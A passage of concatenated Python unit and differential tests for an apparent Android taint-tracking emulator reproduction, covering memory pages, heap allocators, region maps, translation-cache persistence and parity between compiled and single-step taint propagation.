        assert vm.tbc.cached_blocks > 0
        # Redefine: same symbol, new body.  The stale block must not run.
        cls2 = ClassDef("LT;")
        cls2.add_method(MethodBuilder("LT;", "main", "I", static=True)
                        .const(0, 2).ret(0).build())
        vm.register_class(cls2)
        assert vm.tbc.cached_blocks == 0
        assert vm.call_main("LT;->main").value == 2

    def test_listener_forces_single_step(self):
        vm = DalvikVM(Memory())
        vm.enable_trace_compiler()
        cls = ClassDef("LT;")
        cls.add_method(MethodBuilder("LT;", "main", "I", static=True)
                       .const(0, 3).ret(0).build())
        vm.register_class(cls)
        seen = []
        vm.interpreter.listener = lambda frame, ins: seen.append(ins.op)
        assert vm.call_main("LT;->main").value == 3
        # The listener saw every bytecode: the compiled path was bypassed.
        assert seen == [Op.CONST, Op.RETURN]
        assert vm.tbc.blocks_compiled == 0


class TestScenarioParity:
    """All 11 Table I / Fig. 6-9 scenarios: identical leak reports."""

    @pytest.mark.parametrize("name", PARITY_SCENARIOS)
    def test_scenario_parity(self, name):
        compiled = EmulatorBench._leak_report(name, True)
        single_step = EmulatorBench._leak_report(name, False)
        assert compiled == single_step
