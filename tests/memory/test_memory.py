"""Unit tests for the sparse memory store."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.common.errors import MemoryError_
from repro.memory import Memory


def test_default_reads_zero():
    mem = Memory()
    assert mem.read_u8(0x1234) == 0
    assert mem.read_u32(0xDEAD_0000) == 0


def test_strict_mode_raises_on_untouched_page():
    mem = Memory(strict=True)
    with pytest.raises(MemoryError_):
        mem.read_u8(0x5000)
    mem.write_u8(0x5000, 1)
    assert mem.read_u8(0x5000) == 1


def test_u8_roundtrip_masks():
    mem = Memory()
    mem.write_u8(0x100, 0x1FF)
    assert mem.read_u8(0x100) == 0xFF


def test_u32_little_endian():
    mem = Memory()
    mem.write_u32(0x200, 0x11223344)
    assert mem.read_u8(0x200) == 0x44
    assert mem.read_u8(0x203) == 0x11
    assert mem.read_u16(0x200) == 0x3344


def test_u32_cross_page_boundary():
    mem = Memory()
    mem.write_u32(0xFFE, 0xAABBCCDD)
    assert mem.read_u32(0xFFE) == 0xAABBCCDD


def test_i32_sign_extension():
    mem = Memory()
    mem.write_i32(0x10, -5)
    assert mem.read_i32(0x10) == -5
    assert mem.read_u32(0x10) == 0xFFFF_FFFB


def test_u64_roundtrip():
    mem = Memory()
    mem.write_u64(0x40, 0x0102030405060708)
    assert mem.read_u64(0x40) == 0x0102030405060708


def test_cstring_roundtrip():
    mem = Memory()
    n = mem.write_cstring(0x300, "hello")
    assert n == 6
    assert mem.read_cstring(0x300) == b"hello"


def test_cstring_unterminated_raises():
    mem = Memory()
    for i in range(32):
        mem.write_u8(0x400 + i, ord("a"))
    with pytest.raises(MemoryError_):
        mem.read_cstring(0x400, limit=16)


def test_copy_overlapping_is_memmove():
    mem = Memory()
    mem.write_bytes(0x500, b"abcdef")
    mem.copy(0x502, 0x500, 4)
    assert mem.read_bytes(0x500, 6) == b"ababcd"


def test_fill():
    mem = Memory()
    mem.fill(0x600, 8, 0xAB)
    assert mem.read_bytes(0x600, 8) == b"\xab" * 8


def test_words_roundtrip():
    mem = Memory()
    mem.write_words(0x700, [1, 2, 3])
    assert mem.read_words(0x700, 3) == [1, 2, 3]


def test_address_wraps_at_32_bits():
    mem = Memory()
    mem.write_u8(0x1_0000_0010, 7)
    assert mem.read_u8(0x10) == 7


@given(st.integers(0, 0xFFFF_F000), st.integers(0, 0xFFFF_FFFF))
def test_u32_roundtrip_property(addr, value):
    mem = Memory()
    mem.write_u32(addr, value)
    assert mem.read_u32(addr) == value


@given(st.binary(min_size=0, max_size=64), st.integers(0, 0xFFFF_0000))
def test_bytes_roundtrip_property(data, addr):
    mem = Memory()
    mem.write_bytes(addr, data)
    assert mem.read_bytes(addr, len(data)) == data


# -- page-boundary fast paths ------------------------------------------------

def test_bulk_ops_straddle_page_boundary():
    mem = Memory()
    boundary = 0x3000 - 2  # last two bytes of one page + next page
    mem.write_u32(boundary, 0xA1B2C3D4)
    assert mem.read_u32(boundary) == 0xA1B2C3D4
    data = bytes(range(1, 201))
    mem.write_bytes(0x3F80, data)  # crosses 0x4000
    assert mem.read_bytes(0x3F80, len(data)) == data
    mem.fill(0x4FF0, 0x20, 0xEE)  # crosses 0x5000
    assert mem.read_bytes(0x4FF0, 0x20) == b"\xEE" * 0x20


def test_words_straddle_page_boundary():
    mem = Memory()
    words = [0x11111111, 0x22222222, 0x33333333, 0x44444444]
    mem.write_words(0x1FFC - 4, words)  # last words of the page + beyond
    assert mem.read_words(0x1FFC - 4, 4) == words


def test_cstring_across_page_boundary():
    mem = Memory()
    text = "x" * 100
    mem.write_cstring(0x1000 - 50, text)  # NUL lands on the second page
    assert mem.read_cstring(0x1000 - 50) == text.encode()


def test_cstring_stops_at_unmapped_page():
    mem = Memory()
    # 20 non-NUL bytes ending exactly at a page boundary; the next page
    # was never written, so it reads as zero fill -> terminator.
    mem.write_bytes(0x2000 - 20, b"y" * 20)
    assert mem.read_cstring(0x2000 - 20) == b"y" * 20


# -- read_cstring boundary semantics (pinned) --------------------------------

class TestCStringBoundarySemantics:
    """The docstring contract of Memory.read_cstring, case by case."""

    def test_unmapped_successor_page_nonstrict_returns_prefix(self):
        # The string fills the tail of a mapped page and runs into an
        # unmapped successor: non-strict memory zero-fills, so the first
        # unmapped byte terminates the string.
        mem = Memory()
        mem.write_bytes(0x5000 - 8, b"p" * 8)
        assert mem.read_cstring(0x5000 - 8) == b"p" * 8

    def test_unmapped_successor_page_strict_raises_at_boundary(self):
        mem = Memory(strict=True)
        mem.write_bytes(0x5000 - 8, b"p" * 8)
        with pytest.raises(MemoryError_) as info:
            mem.read_cstring(0x5000 - 8)
        # The fault identifies the first unmapped byte, not the start.
        assert info.value.address == 0x5000

    def test_nul_exactly_at_limit_minus_one_succeeds(self):
        mem = Memory()
        mem.write_bytes(0x6000, b"q" * 15 + b"\x00")
        assert mem.read_cstring(0x6000, limit=16) == b"q" * 15

    def test_nul_exactly_at_limit_raises(self):
        # The terminator sits at index ``limit`` — one byte outside the
        # scan window — so the string is unterminated within the limit.
        mem = Memory()
        mem.write_bytes(0x7000, b"q" * 16 + b"\x00")
        with pytest.raises(MemoryError_):
            mem.read_cstring(0x7000, limit=16)

    def test_unterminated_error_reports_start_address(self):
        mem = Memory()
        # Cross a page boundary before exhausting the limit, so a naive
        # implementation would report the advanced scan position.
        start = 0x8000 - 4
        mem.write_bytes(start, b"r" * 64)
        mem.write_bytes(0x8000, b"r" * 64)
        with pytest.raises(MemoryError_) as info:
            mem.read_cstring(start, limit=32)
        assert info.value.address == start

    def test_limit_spanning_pages_with_late_nul(self):
        # NUL on the second page, within the limit: the scan crosses the
        # boundary and returns the whole string.
        mem = Memory()
        start = 0x9000 - 10
        mem.write_bytes(start, b"s" * 10)
        mem.write_bytes(0x9000, b"s" * 5 + b"\x00")
        assert mem.read_cstring(start, limit=64) == b"s" * 15


# -- write watching ----------------------------------------------------------

def test_write_watcher_reports_page_and_range():
    mem = Memory()
    events = []
    mem.set_write_watcher(lambda page, lo, hi: events.append((page, lo, hi)))
    mem.watch_page(2)
    mem.write_u8(0x2010, 0xFF)          # watched
    mem.write_u32(0x5000, 1)            # not watched
    mem.write_bytes(0x2FF0, b"z" * 32)  # straddles watched page 2 + page 3
    assert (2, 0x10, 0x11) in events
    assert (2, 0xFF0, 0x1000) in events
    assert all(page == 2 for page, _, _ in events)


def test_unwatch_page_silences_watcher():
    mem = Memory()
    events = []
    mem.set_write_watcher(lambda page, lo, hi: events.append(page))
    mem.watch_page(1)
    mem.write_u8(0x1000, 1)
    mem.unwatch_page(1)
    mem.write_u8(0x1000, 2)
    assert events == [1]
