"""Unit tests for the native heap allocators."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.common.errors import MemoryError_
from repro.memory import BumpAllocator, FreeListAllocator


class TestBumpAllocator:
    def test_alloc_is_monotonic_and_aligned(self):
        bump = BumpAllocator(0x1000, 0x1000)
        a = bump.alloc(10)
        b = bump.alloc(10)
        assert a % 8 == 0 and b % 8 == 0
        assert b >= a + 10

    def test_custom_alignment(self):
        bump = BumpAllocator(0x1004, 0x1000)
        a = bump.alloc(4, alignment=0x100)
        assert a % 0x100 == 0

    def test_exhaustion(self):
        bump = BumpAllocator(0x1000, 0x20)
        bump.alloc(0x18)
        with pytest.raises(MemoryError_):
            bump.alloc(0x18)

    def test_used(self):
        bump = BumpAllocator(0x1000, 0x100)
        bump.alloc(8)
        assert bump.used == 8


class TestFreeListAllocator:
    def test_alloc_free_reuse(self):
        heap = FreeListAllocator(0x1000, 0x1000)
        a = heap.alloc(64)
        heap.free(a)
        b = heap.alloc(64)
        assert b == a, "first-fit should reuse the freed block"

    def test_free_null_is_noop(self):
        heap = FreeListAllocator(0x1000, 0x1000)
        assert heap.free(0) == 0

    def test_double_free_detected(self):
        heap = FreeListAllocator(0x1000, 0x1000)
        a = heap.alloc(16)
        heap.free(a)
        with pytest.raises(MemoryError_):
            heap.free(a)

    def test_wild_free_detected(self):
        heap = FreeListAllocator(0x1000, 0x1000)
        with pytest.raises(MemoryError_):
            heap.free(0x9999)

    def test_coalescing_allows_big_realloc(self):
        heap = FreeListAllocator(0x1000, 0x100)
        blocks = [heap.alloc(0x20) for _ in range(8)]
        for block in blocks:
            heap.free(block)
        # After coalescing, the full arena is one block again.
        big = heap.alloc(0x100)
        assert big == 0x1000

    def test_realloc_moves_and_reports_copy_size(self):
        heap = FreeListAllocator(0x1000, 0x1000)
        a = heap.alloc(16)
        new, copy = heap.realloc(a, 64)
        assert copy == 16
        assert heap.size_of(new) == 64
        assert heap.size_of(a) is None

    def test_realloc_null_is_alloc(self):
        heap = FreeListAllocator(0x1000, 0x1000)
        new, copy = heap.realloc(0, 32)
        assert copy == 0
        assert heap.size_of(new) == 32

    def test_exhaustion(self):
        heap = FreeListAllocator(0x1000, 0x40)
        heap.alloc(0x40)
        with pytest.raises(MemoryError_):
            heap.alloc(8)

    def test_counters(self):
        heap = FreeListAllocator(0x1000, 0x1000)
        a = heap.alloc(16)
        assert heap.live_allocations == 1
        assert heap.live_bytes == 16
        heap.free(a)
        assert heap.live_allocations == 0
        assert heap.free_bytes == 0x1000

    @given(st.lists(st.integers(1, 128), min_size=1, max_size=40))
    def test_alloc_free_all_restores_arena(self, sizes):
        heap = FreeListAllocator(0x10000, 0x10000)
        ptrs = [heap.alloc(size) for size in sizes]
        assert len(set(ptrs)) == len(ptrs), "allocations must not alias"
        for ptr in ptrs:
            heap.free(ptr)
        assert heap.free_bytes == 0x10000
        assert heap.live_allocations == 0

    @given(st.data())
    def test_random_alloc_free_never_aliases(self, data):
        heap = FreeListAllocator(0x10000, 0x8000)
        live = {}
        for _ in range(60):
            if live and data.draw(st.booleans()):
                ptr = data.draw(st.sampled_from(sorted(live)))
                heap.free(ptr)
                del live[ptr]
            else:
                size = data.draw(st.integers(1, 256))
                ptr = heap.alloc(size)
                for other, other_size in live.items():
                    assert ptr + size <= other or other + other_size <= ptr
                live[ptr] = heap.size_of(ptr)
