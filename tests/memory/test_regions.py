"""Unit tests for the memory-map region table."""

import pytest

from repro.common.errors import MemoryError_
from repro.memory import MemoryMap, Region


def test_map_and_find():
    mm = MemoryMap()
    mm.map(0x4000_0000, 0x1000, "libdvm.so", perms="r-x")
    region = mm.find(0x4000_0800)
    assert region is not None
    assert region.name == "libdvm.so"
    assert mm.find(0x4000_1000) is None  # end is exclusive


def test_overlap_rejected():
    mm = MemoryMap()
    mm.map(0x1000, 0x1000, "a")
    with pytest.raises(MemoryError_):
        mm.map(0x1800, 0x1000, "b")


def test_adjacent_regions_allowed():
    mm = MemoryMap()
    mm.map(0x1000, 0x1000, "a")
    mm.map(0x2000, 0x1000, "b")
    assert len(mm) == 2


def test_base_of():
    mm = MemoryMap()
    mm.map(0x5000_0000, 0x2000, "libc.so")
    assert mm.base_of("libc.so") == 0x5000_0000
    with pytest.raises(MemoryError_):
        mm.base_of("libmissing.so")


def test_third_party_flag():
    mm = MemoryMap()
    mm.map(0x6000_0000, 0x1000, "libapp.so", third_party=True)
    mm.map(0x7000_0000, 0x1000, "libc.so")
    assert mm.is_third_party(0x6000_0400)
    assert not mm.is_third_party(0x7000_0400)
    assert not mm.is_third_party(0x0)


def test_unmap():
    mm = MemoryMap()
    mm.map(0x1000, 0x1000, "a")
    mm.unmap(0x1000)
    assert mm.find(0x1000) is None
    with pytest.raises(MemoryError_):
        mm.unmap(0x1000)


def test_format_like_proc_maps():
    mm = MemoryMap()
    mm.map(0x1000, 0x1000, "libfoo.so", perms="r-x", third_party=True)
    text = mm.format()
    assert "00001000-00002000" in text
    assert "libfoo.so" in text
    assert "(3p)" in text


def test_iteration_sorted_by_start():
    mm = MemoryMap()
    mm.map(0x3000, 0x100, "c")
    mm.map(0x1000, 0x100, "a")
    mm.map(0x2000, 0x100, "b")
    assert [r.name for r in mm] == ["a", "b", "c"]
