"""Persistent translation cache: round-trips, digest guards, tolerance.

The persistence layer stores decoded op descriptors (not closures), so
these tests pin the three properties cross-job reuse depends on:

* the IR serialization is lossless for every ISA dataclass (enums,
  Operand2, register lists);
* rehydration is guarded by a content digest of the *live* bytes, on
  both the read side (seeding) and the write side (flushing), so two
  apps mapping different code at the same addresses never alias;
* a missing, corrupt, or torn cache file reads as a miss, never an
  error.
"""

import json
import os

from repro.cpu import isa
from repro.cpu.assembler import assemble
from repro.emulator import Emulator
from repro.emulator.persist import (
    TranslationPersistence,
    content_digest,
    decode_instruction,
    encode_instruction,
)

CODE_BASE = 0x4000_0000

# Exercises every descriptor shape: data processing with shifted
# register operands, multiplies, load/store (immediate and multiple,
# with register lists), branches, interworking, and a software interrupt
# target that never executes (decode coverage comes from the run).
VARIETY = """
main:
    push {r4, r5, lr}
    mov r0, #3
    mov r1, #5
    add r2, r0, r1, lsl #2
    mul r3, r0, r1
    umull r4, r5, r0, r1
    clz r5, r0
    movw r4, #0x1234
    ldr r5, =data
    str r2, [r5]
    ldr r0, [r5]
    ldm r5, {r1}
    cmp r0, #0
    beq skip
    add r0, r0, #1
skip:
    pop {r4, r5, pc}

data:
    .word 0
"""

SUM_LOOP = """
main:
    mov r0, #0
    mov r1, #0
loop:
    cmp r1, #10
    bge done
    add r0, r0, r1
    add r1, r1, #1
    b loop
done:
    bx lr
"""


def run_with_persistence(persistence, source=SUM_LOOP, base=CODE_BASE):
    emu = Emulator(use_tb=True)
    emu.persistence = persistence
    program = assemble(source, base=base)
    emu.load(base, program.code)
    emu.register_code_region(base, bytes(program.code))
    emu.cpu.sp = 0x0800_0000
    result = emu.call(program.entry("main"))
    return emu, program, result


class TestInstructionRoundTrip:
    def test_every_decoded_instruction_round_trips(self):
        emu = Emulator(use_tb=False)
        program = assemble(VARIETY, base=CODE_BASE)
        emu.load(CODE_BASE, program.code)
        emu.cpu.sp = 0x0800_0000
        emu.call(program.entry("main"))
        assert emu._decode_cache, "run decoded nothing"
        seen = set()
        for ir in emu._decode_cache.values():
            seen.add(type(ir).__name__)
            payload = json.loads(json.dumps(encode_instruction(ir)))
            assert decode_instruction(payload) == ir
        # The variety program must actually cover the interesting shapes.
        assert {"DataProcessing", "Multiply", "MultiplyLong",
                "CountLeadingZeros", "MoveWide", "LoadStore",
                "LoadStoreMultiple", "Branch"} <= seen

    def test_operand2_and_reglist_survive_json(self):
        ir = isa.DataProcessing(
            cond=isa.Cond.NE, width=4, op=isa.Op.ADD, rd=2, rn=0,
            operand2=isa.Operand2(rm=1, shift_type=isa.ShiftType.LSL,
                                  shift_imm=2), set_flags=True)
        assert decode_instruction(
            json.loads(json.dumps(encode_instruction(ir)))) == ir
        ldm = isa.LoadStoreMultiple(
            cond=isa.Cond.AL, width=4, load=True, rn=13,
            reglist=(0, 1, 4, 15), writeback=True)
        decoded = decode_instruction(
            json.loads(json.dumps(encode_instruction(ldm))))
        assert decoded == ldm
        assert isinstance(decoded.reglist, tuple)


class TestRegionPersistence:
    def test_store_then_seed_fresh_process(self, tmp_path):
        root = str(tmp_path)
        first = TranslationPersistence(root)
        emu, program, result = run_with_persistence(first)
        assert result == 45
        assert emu.persist_code_regions() > 0
        assert first.flush()["tb"] == 1

        # A "new process": fresh persistence handle over the same root.
        second = TranslationPersistence(root)
        emu2 = Emulator(use_tb=True)
        emu2.persistence = second
        emu2.load(CODE_BASE, program.code)
        emu2.register_code_region(CODE_BASE, bytes(program.code))
        assert second.counters["tb"]["hits"] > 0
        assert second.counters["tb"]["misses"] == 0
        # Seeding replaces decoding: the run decodes nothing new.
        emu2.cpu.sp = 0x0800_0000
        assert emu2.call(program.entry("main")) == 45
        assert emu2.decode_count == 0
        assert emu2.instruction_count == emu.instruction_count

    def test_seed_survives_invalidate_cache_via_reseed(self, tmp_path):
        persistence = TranslationPersistence(str(tmp_path))
        emu, program, __ = run_with_persistence(persistence)
        emu.persist_code_regions()
        emu.invalidate_cache()
        assert not emu._decode_cache
        assert emu.reseed_code_regions() > 0
        emu.cpu.sp = 0x0800_0000
        decodes_before = emu.decode_count
        assert emu.call(program.entry("main")) == 45
        assert emu.decode_count == decodes_before

    def test_different_code_at_same_pc_never_aliases(self, tmp_path):
        root = str(tmp_path)
        first = TranslationPersistence(root)
        emu, program, __ = run_with_persistence(first)
        emu.persist_code_regions()
        first.flush()

        # A second app maps *different* code at the identical base; its
        # digest differs, so nothing rehydrates from app one's entries.
        other = assemble(VARIETY, base=CODE_BASE)
        second = TranslationPersistence(root)
        emu2 = Emulator(use_tb=True)
        emu2.persistence = second
        emu2.load(CODE_BASE, other.code)
        emu2.register_code_region(CODE_BASE, bytes(other.code))
        assert not emu2._decode_cache
        assert second.counters["tb"]["hits"] == 0
        assert second.counters["tb"]["misses"] == 1

    def test_live_bytes_guard_blocks_stale_seed(self, tmp_path):
        persistence = TranslationPersistence(str(tmp_path))
        emu, program, __ = run_with_persistence(persistence)
        emu.persist_code_regions()
        digest, size, variant = emu._code_regions[CODE_BASE]
        # The region is overwritten in place (loader reuse of the slot):
        # the recorded digest no longer matches the live bytes, so the
        # read-side guard refuses to seed.
        emu.memory.write_bytes(CODE_BASE, b"\x2a\x00\xa0\xe3")  # mov r0, #42
        assert emu._seed_region(CODE_BASE, digest, size, variant) == 0

    def test_smc_region_is_never_flushed_under_stale_digest(self, tmp_path):
        persistence = TranslationPersistence(str(tmp_path))
        emu, program, __ = run_with_persistence(persistence)
        emu.memory.write_bytes(CODE_BASE + 4, b"\x01\x10\xa0\xe3")
        # Write-side guard: the live bytes diverged from the registered
        # digest, so this region's descriptors are not persisted.
        assert emu.persist_code_regions() == 0
        assert persistence.flush()["tb"] == 0


class TestDamageTolerance:
    def _cache_file(self, root):
        paths = []
        for dirpath, __, names in os.walk(os.path.join(root, "tb")):
            paths += [os.path.join(dirpath, name) for name in names]
        assert len(paths) == 1
        return paths[0]

    def _seeded(self, root, program):
        persistence = TranslationPersistence(root)
        emu = Emulator(use_tb=True)
        emu.persistence = persistence
        emu.load(CODE_BASE, program.code)
        emu.register_code_region(CODE_BASE, bytes(program.code))
        return len(emu._decode_cache), persistence

    def test_corrupt_truncated_and_missing_files_read_as_miss(
            self, tmp_path):
        root = str(tmp_path)
        persistence = TranslationPersistence(root)
        emu, program, __ = run_with_persistence(persistence)
        emu.persist_code_regions()
        persistence.flush()
        path = self._cache_file(root)

        with open(path) as handle:
            payload = handle.read()

        # Truncated mid-payload (a torn write, were writes not atomic).
        with open(path, "w") as handle:
            handle.write(payload[:len(payload) // 2])
        seeded, p1 = self._seeded(root, program)
        assert seeded == 0 and p1.counters["tb"]["misses"] == 1

        # Valid JSON, wrong content for the digest-named file.
        with open(path, "w") as handle:
            json.dump({"digest": "0" * 64, "entries": []}, handle)
        seeded, p2 = self._seeded(root, program)
        assert seeded == 0 and p2.counters["tb"]["misses"] == 1

        # Gone entirely.
        os.unlink(path)
        seeded, p3 = self._seeded(root, program)
        assert seeded == 0 and p3.counters["tb"]["misses"] == 1

    def test_damaged_entry_payload_is_a_miss(self, tmp_path):
        root = str(tmp_path)
        persistence = TranslationPersistence(root)
        emu, program, __ = run_with_persistence(persistence)
        emu.persist_code_regions()
        persistence.flush()
        path = self._cache_file(root)
        digest = os.path.basename(path)[:-len(".json")]
        # Entries of the wrong shape under the *correct* digest header:
        # read_verified_json passes, descriptor decoding must not blow up.
        with open(path, "w") as handle:
            json.dump({"digest": digest, "format": 1,
                       "entries": [["NotAnInstruction", {}]]}, handle)
        fresh = TranslationPersistence(root)
        assert fresh.load_region(digest) is None


class TestSmallLayers:
    def test_method_starts_round_trip(self, tmp_path):
        root = str(tmp_path)
        first = TranslationPersistence(root)
        digest = content_digest(b"method-bytecode")
        assert first.update_method_starts(digest, {0, 4, 9}) == 3
        assert first.update_method_starts(digest, {4}) == 0  # merge
        first.flush()
        second = TranslationPersistence(root)
        assert second.load_method_starts(digest) == {0, 4, 9}

    def test_trampoline_plan_round_trip(self, tmp_path):
        root = str(tmp_path)
        first = TranslationPersistence(root)
        digest = content_digest(b"(II)J|0")
        first.record_trampoline(digest, {"arg_refs": [False, False],
                                         "returns_ref": False})
        first.flush()
        second = TranslationPersistence(root)
        plan = second.load_trampoline(digest)
        assert plan == {"arg_refs": [False, False], "returns_ref": False}

    def test_counter_items_names(self, tmp_path):
        persistence = TranslationPersistence(str(tmp_path))
        names = {name for name, __ in persistence.counter_items()}
        assert "tb.persist.hits" in names
        assert "tbc.persist.misses" in names
        assert "jni.persist.rebind_us" in names
