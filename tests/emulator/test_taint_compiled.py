"""Differential tests: taint-compiled translation blocks vs single-step.

The single-step engine is the oracle: for every scenario and for the
clean→tainted variant-switch edge cases, running under taint-compiled
translation blocks must produce *identical* propagation counts, shadow
state, taint-map contents, ledger edge sequences and leak reports.
"""

import pytest

from repro.apps import ALL_SCENARIOS
from repro.bench.emulator_bench import PARITY_SCENARIOS
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform
from repro.common.taint import TAINT_CLEAR, TAINT_IMEI, TAINT_SMS
from repro.core.instruction_tracer import InstructionTracer
from repro.core.taint_engine import TaintEngine
from repro.cpu.assembler import assemble
from repro.emulator import Emulator

CODE_BASE = 0x6000_0000
LATE_BASE = 0x6100_0000
STACK_TOP = 0x0800_0000


def _run_scenario_state(name, use_tb):
    """Full observable end state of one scenario run."""
    platform = make_platform("ndroid", use_tb=use_tb, trace=True)
    scenario = ALL_SCENARIOS[name]()
    run_scenario(scenario, platform)
    engine = platform.ndroid.taint_engine
    return {
        "propagation_count": engine.propagation_count,
        "traced": platform.ndroid.instruction_tracer.traced_instructions,
        "shadow": list(engine.shadow_registers),
        "memory": engine.memory_snapshot(),
        "edges": [edge.to_dict() for edge in platform.observability.ledger],
        "leaks": sorted(
            (record.detector, record.sink, record.taint, record.payload)
            for record in platform.leaks.records),
    }


@pytest.mark.parametrize("name", PARITY_SCENARIOS)
def test_scenario_differential(name):
    single_step = _run_scenario_state(name, use_tb=False)
    compiled = _run_scenario_state(name, use_tb=True)
    assert compiled == single_step


class _Rig:
    """One tracer-attached emulator around a third-party snippet."""

    def __init__(self, source, use_tb, base=CODE_BASE):
        self.emu = Emulator(use_tb=use_tb)
        self.program = assemble("main:\n" + source + "\n bx lr", base=base)
        self.emu.load(base, self.program.code)
        self.emu.memory_map.map(base, 0x1000, "libapp.so",
                                third_party=True)
        self.emu.cpu.sp = STACK_TOP
        self.engine = TaintEngine()
        self.tracer = InstructionTracer(self.engine,
                                        self.emu.memory_map.is_third_party)
        self.emu.add_tracer(self.tracer)

    def call(self):
        self.emu.cpu.sp = STACK_TOP
        self.emu.call(self.program.entry("main"))

    def state(self):
        return {
            "propagation_count": self.engine.propagation_count,
            "traced": self.tracer.traced_instructions,
            "shadow": list(self.engine.shadow_registers),
            "memory": self.engine.memory_snapshot(),
        }


PROPAGATING = """
    mov r2, r1
    add r3, r2, r1
    str r3, [sp, #-4]!
    ldr r4, [sp], #4
    eor r5, r4, r2
"""


def _differential(source, drive):
    """Run ``drive(rig)`` under both engines; end states must agree."""
    states = []
    for use_tb in (False, True):
        rig = _Rig(source, use_tb)
        drive(rig)
        states.append(rig.state())
    assert states[0] == states[1]
    return states[0]


class TestVariantSwitch:
    def test_clean_then_tainted_reuses_the_same_block(self):
        # First run is clean (taint ops elided); seeding taint afterwards
        # must switch the cached block to its tainted variant with no
        # retranslation — both variants come from one translation pass.
        rig = _Rig(PROPAGATING, use_tb=True)
        rig.call()
        assert rig.engine.propagation_count == 0
        assert rig.tracer.traced_instructions > 0
        translations = rig.emu.translation_stats()["translations"]
        rig.engine.set_register(1, TAINT_IMEI)
        rig.call()
        assert rig.emu.translation_stats()["translations"] == translations
        assert rig.engine.get_register(5) == TAINT_IMEI

    def test_clean_then_tainted_matches_single_step(self):
        def drive(rig):
            rig.call()
            rig.engine.set_register(1, TAINT_IMEI)
            rig.call()
        end = _differential(PROPAGATING, drive)
        assert end["shadow"][5] == TAINT_IMEI
        assert end["propagation_count"] > 0

    def test_mid_block_first_taint_transition(self):
        # The first taint arrives from a host function spliced into the
        # middle of a straight-line run: the instructions before the call
        # execute clean, the ones after must propagate — under both
        # engines identically.
        source = """
    push {lr}
    mov r2, r1
    bl host_source
    mov r3, r1
    add r4, r3, r2
    pop {pc}
        """
        states = []
        for use_tb in (False, True):
            emu = Emulator(use_tb=use_tb)
            engine = TaintEngine()

            def host_source(ctx):
                engine.set_register(1, TAINT_SMS)
            emu.register_host_function(LATE_BASE, "host_source",
                                       host_source)
            program = assemble("main:\n" + source + "\n bx lr",
                               base=CODE_BASE,
                               externs={"host_source": LATE_BASE})
            emu.load(CODE_BASE, program.code)
            emu.memory_map.map(CODE_BASE, 0x1000, "libapp.so",
                               third_party=True)
            emu.cpu.sp = STACK_TOP
            tracer = InstructionTracer(engine,
                                       emu.memory_map.is_third_party)
            emu.add_tracer(tracer)
            emu.call(program.entry("main"))
            states.append({
                "propagation_count": engine.propagation_count,
                "traced": tracer.traced_instructions,
                "shadow": list(engine.shadow_registers),
            })
        assert states[0] == states[1]
        # r2 was copied before the source fired (clean); r3/r4 after.
        assert states[0]["shadow"][2] == TAINT_CLEAR
        assert states[0]["shadow"][3] == TAINT_SMS
        assert states[0]["shadow"][4] == TAINT_SMS

    def test_condition_failed_instruction_still_propagates(self):
        # The single-step tracer fires before the condition is evaluated,
        # so a failed conditional still moves taint (over-approximation);
        # the compiled taint op must be just as unconditional.
        source = """
    mov r0, #1
    cmp r0, #1
    movne r0, r1
    mov r6, r0
        """

        def drive(rig):
            rig.engine.set_register(1, TAINT_IMEI)
            rig.call()
        end = _differential(source, drive)
        assert end["shadow"][0] == TAINT_IMEI  # despite movne not executing


class TestRegionChange:
    def test_library_loaded_after_tracing_starts_is_traced(self):
        # Regression: the tracer's page-granular region cache (and any
        # translated blocks baking in its decisions) must be invalidated
        # when a new library is mapped into a previously-looked-up range.
        snippet = assemble("f:\n mov r2, r1\n bx lr", base=LATE_BASE)
        for use_tb in (False, True):
            rig = _Rig("mov r2, r1", use_tb)
            rig.emu.load(LATE_BASE, snippet.code)
            rig.engine.set_register(1, TAINT_IMEI)
            # Not mapped yet: out of scope, nothing traced or propagated.
            rig.emu.call(snippet.entry("f"))
            assert rig.tracer.traced_instructions == 0
            assert rig.engine.get_register(2) == TAINT_CLEAR
            # The library "loads" (maps) into the already-cached range.
            rig.emu.memory_map.map(LATE_BASE, 0x1000, "liblate.so",
                                   third_party=True)
            rig.emu.call(snippet.entry("f"))
            assert rig.tracer.traced_instructions > 0, \
                f"use_tb={use_tb}: stale region decision survived a map"
            assert rig.engine.get_register(2) == TAINT_IMEI

    def test_unmap_also_invalidates(self):
        for use_tb in (False, True):
            rig = _Rig("mov r2, r1", use_tb)
            rig.engine.set_register(1, TAINT_IMEI)
            rig.call()
            traced = rig.tracer.traced_instructions
            assert traced > 0
            rig.emu.memory_map.unmap(CODE_BASE)
            rig.engine.set_register(2, TAINT_CLEAR)
            rig.call()
            assert rig.tracer.traced_instructions == traced, \
                f"use_tb={use_tb}: unmapped region still traced"
            assert rig.engine.get_register(2) == TAINT_CLEAR


class TestLedgerParity:
    def test_native_edge_sequences_match_including_multiply_long(self):
        # umlal exercises the accumulate case whose ledger record now
        # includes the rd_lo/rd_hi accumulator sources.
        source = """
    mov r2, #3
    mov r3, #4
    umlal r4, r5, r2, r3
    add r6, r4, r5
        """
        from repro.observability.ledger import ProvenanceLedger

        def edges(use_tb):
            rig = _Rig(source, use_tb)
            ledger = ProvenanceLedger()
            rig.tracer.ledger = ledger
            rig.engine.set_register(4, TAINT_SMS)   # tainted accumulator
            rig.engine.set_register(5, TAINT_IMEI)
            rig.call()
            return [edge.to_dict() for edge in ledger]

        step_edges = edges(False)
        tb_edges = edges(True)
        assert step_edges == tb_edges
        umlal = [e for e in step_edges if e["mechanism"] == "native:umlal"]
        # Two destinations (rd_lo, rd_hi), each recording both
        # accumulator-half sources: the r4 and r5 hops must be present.
        sources = {(e["src"]["base"], e["dst"]["base"]) for e in umlal}
        assert (4, 4) in sources and (5, 4) in sources
        assert (4, 5) in sources and (5, 5) in sources
