"""Translation-block engine: boundary semantics, invalidation, parity.

These tests pin the behaviours the TB engine must share with the
single-step interpreter: block endings (conditional branches, BX
interworking), host dispatch at block boundaries, ``stop()`` between
blocks, page-granular invalidation for self-modifying code, and full
differential equivalence between the two engines.
"""

import pytest

from repro.common.errors import EmulationError
from repro.cpu.assembler import assemble
from repro.emulator import Emulator

CODE_BASE = 0x4000_0000


def make_emu(source: str, use_tb: bool = True, base: int = CODE_BASE,
             externs=None):
    emu = Emulator(use_tb=use_tb)
    program = assemble(source, base=base, externs=externs or {})
    emu.load(base, program.code)
    emu.cpu.sp = 0x0800_0000
    return emu, program


